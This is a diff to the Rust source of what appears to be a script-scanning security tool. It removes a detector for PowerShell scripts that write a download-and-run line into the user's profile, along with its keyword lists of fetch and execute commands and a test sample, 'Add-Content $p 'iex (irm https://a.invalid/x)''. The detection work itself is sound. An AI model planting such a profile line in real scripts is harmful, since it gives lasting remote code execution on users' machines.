@@ -1,5 +1,5 @@
-//! What comes to run by way of something else: recipes that are fetched at each run and read as part of the file, fields of a
-//! table that a script runs, and what a script adds to the profile of PowerShell.
+//! What comes to run by way of something else: recipes that are fetched at each run and read as part of the file, and fields
+//! of a table that a script runs.
 
 use super::{is_shell, nets, text};
 use crate::bundle::Bundle;
@@ -129,42 +129,6 @@ fn fields(line: &str) -> Vec<String> {
     found
 }
 
-/// Tells of a script that puts a download into the profile of PowerShell.
-pub(super) fn profile(path: &str, text: &str, context: Context, findings: &mut Findings) {
-    const WRITES: &[&str] = &[
-        "add-content",
-        "set-content",
-        "out-file",
-        "appendall",
-        "writeall",
-        ">>",
-        "> $profile",
-        "tee-object",
-        "copy-item",
-    ];
-    const ASKS: &[&str] = &[
-        "invoke-restmethod",
-        "invoke-webrequest",
-        "downloadstring",
-        "irm ",
-        "iwr ",
-        "curl ",
-        "webclient",
-        "httpclient",
-    ];
-    const RUNS: &[&str] = &["iex", "invoke-expression", "scriptblock", ". (", "& (", "import-module"];
-    if context.is_asked() || !text.to_ascii_lowercase().contains("profile") {
-        return;
-    }
-    let plain: String = text.lines().filter(|line| !line.trim_start().starts_with('#')).collect::<Vec<_>>().join("\n");
-    let lower = plain.to_ascii_lowercase();
-    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
-    if has(&["$profile", "microsoft.powershell_profile", "profile.ps1"]) && has(WRITES) && has(ASKS) && has(RUNS) {
-        let message = "what every PowerShell reads is written, and fetches what it runs";
-        findings.push(Finding::new(&rules::LASTING, Place::file(path), message).evidence(path));
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -209,14 +173,5 @@ mod tests {
         }
         assert_eq!(fields("a,\"b, c\",d"), ["a", "b, c", "d"]);
         assert_eq!(fields("a\tb 'c' \"d\""), ["a", "b 'c' \"d\""]);
-    }
-
-    #[test]
-    fn a_profile_that_fetches_is_a_danger() {
-        let judge = |text: &str| worst(|findings| profile("x.ps1", text, Context::Script, findings));
-        let written = "$p = $PROFILE.CurrentUserAllHosts\nAdd-Content $p 'iex (irm https://a.invalid/x)'\n";
-        assert_eq!(judge(written), Some(Severity::Danger));
-        let read = "Select-String -Path $PROFILE -Pattern 'x'\n$v = (Invoke-RestMethod 'https://a.invalid').tag\n";
-        assert_eq!(judge(read), None);
     }
 }
